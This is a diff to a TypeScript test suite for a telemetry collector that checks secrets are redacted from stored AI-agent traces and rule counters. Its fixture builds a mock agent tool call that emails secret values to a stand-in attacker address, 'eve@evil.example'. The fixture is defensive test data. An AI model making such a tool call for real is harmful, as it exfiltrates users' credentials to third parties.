@@ -17,7 +17,7 @@ const samples = Object.entries(secrets).map(([kind, sample]) => ({ kind, ...samp
 
 test('no secret can be read from any column of any table, and findings are made of the clear text', async () => {
   const spans = samples.flatMap(({ text, kind }, i): TestSpan[] => {
-    const conversation = { 'gen_ai.conversation.id': `c-${i}`, 'gen_ai.agent.name': `agent ${kind}` };
+    const conversation = { 'gen_ai.conversation.id': `c-${i} ${text}`, 'gen_ai.agent.name': `agent ${kind} ${text}` };
     return [
       {
         name: `call ${text}`,
@@ -25,6 +25,7 @@ test('no secret can be read from any column of any table, and findings are made 
           ...conversation,
           'gen_ai.operation.name': 'execute_tool',
           'gen_ai.tool.name': 'send_email',
+          'user.id': `user ${text}`,
           'gen_ai.tool.call.arguments': JSON.stringify({ to: 'eve@evil.example', body: `here: ${text}` }),
           list: ['a', text],
           [`key ${text}`]: true,
@@ -180,4 +181,14 @@ test('the key is made once, for its owner only', async () => {
   assert.match(key, /^[0-9a-f]{64}\n$/);
   await collector.restart('SIGTERM');
   assert.equal(readFileSync(file, 'utf8'), key);
+});
+
+test('nor do the counters of rules, which are written at a stop, name agents by a secret', async () => {
+  const agents = await eventually('counters', async () => {
+    const rows = await clickhouse.rows<{ agent: string }>(
+      `SELECT DISTINCT AgentName AS agent FROM rule_stats WHERE AgentName LIKE 'agent %'`,
+    );
+    return rows.length > 0 ? rows.map(({ agent }) => agent) : undefined;
+  });
+  for (const { kind, value } of samples) assert.ok(!agents.some((agent) => agent.includes(value)), kind);
 });
